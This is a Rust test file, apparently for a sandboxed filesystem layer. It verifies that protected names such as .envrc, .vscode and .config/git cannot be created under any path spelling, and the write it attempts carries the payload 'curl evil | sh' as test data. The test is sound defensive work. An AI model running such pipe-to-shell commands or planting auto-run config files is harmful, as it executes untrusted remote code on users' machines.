//! A protect-list name that does not exist yet (`.envrc`, `.vscode/`,
//! `.config/git`) cannot be created by the file tools: only an existing
//! object has an identity to refuse by, so its creation is refused by
//! name, in the directory (held by identity) it would be created in. The
//! tools run in-process, so nothing moves that directory between the check
//! and the write. A command run in the sandbox is audited after it instead
//! (stockade-roots' audit; tests in stockade-cli's git_after_run).
#![cfg(unix)]
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly by design

mod common;

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use common::Scene;
use stockade_core::{ExecutionPolicy, FilePolicy, SandboxMode, texts};
use stockade_fs::{FileSystem, ProtectedBy, SandboxedFs};

const WW: SandboxMode = SandboxMode::WorkspaceWrite;

#[test]
fn a_missing_protect_name_cannot_be_created_however_spelled() {
    let scene = Scene::new();
    let ws = &scene.ws;
    fs::create_dir(ws.join("sub")).unwrap();
    symlink(".", ws.join("here")).unwrap();
    let files = FilePolicy {
        read_only: [".envrc", ".vscode", ".config/git"]
            .iter()
            .map(PathBuf::from)
            .collect(),
        ..FilePolicy::default()
    };
    let p = ExecutionPolicy::new(WW, ws).with_files(files);
    let fs_ = SandboxedFs::with_temp_roots(vec![scene.faketmp.clone()]);
    for (asked, protected) in [
        (ws.join(".envrc"), ws.join(".envrc")),
        (PathBuf::from(".envrc"), ws.join(".envrc")),
        (ws.join("sub/../.envrc"), ws.join(".envrc")),
        (ws.join("here/.envrc"), ws.join(".envrc")),
        (ws.join(".vscode/tasks.json"), ws.join(".vscode")),
        (ws.join(".config/git/config"), ws.join(".config/git")),
        // Every writable root has the list.
        (scene.faketmp.join(".envrc"), scene.faketmp.join(".envrc")),
    ] {
        let err = fs_.write(&asked, b"curl evil | sh\n", &p).unwrap_err();
        assert!(err.is_denied(), "{asked:?}: {err}");
        assert_eq!(
            err.protected_path(),
            Some(protected.as_path()),
            "{asked:?}: {err}"
        );
        assert_eq!(err.protected_by(), Some(ProtectedBy::Policy), "{err}");
        let text = err.to_string();
        assert!(text.starts_with(&texts::denial_marker(WW)), "{text}");
    }
    for gone in [".envrc", ".vscode", ".config"] {
        assert!(!ws.join(gone).exists(), "{gone} was created");
    }
    assert!(!scene.faketmp.join(".envrc").exists());
    // The name elsewhere than a root's top is not on the list.
    fs_.write(&ws.join("sub/.envrc"), b"x", &p).unwrap();
    fs_.write(Path::new("free.txt"), b"x", &p).unwrap();
    // Nothing refused without the list.
    let open = ExecutionPolicy::new(WW, ws).with_files(FilePolicy {
        read_only: vec![],
        ..FilePolicy::default()
    });
    fs_.write(&ws.join(".envrc"), b"ok\n", &open).unwrap();
    // Once it exists it is refused by identity, as before.
    let err = fs_.write(&ws.join(".envrc"), b"x", &p).unwrap_err();
    assert!(err.is_denied(), "{err}");
    assert_eq!(fs::read_to_string(ws.join(".envrc")).unwrap(), "ok\n");
}
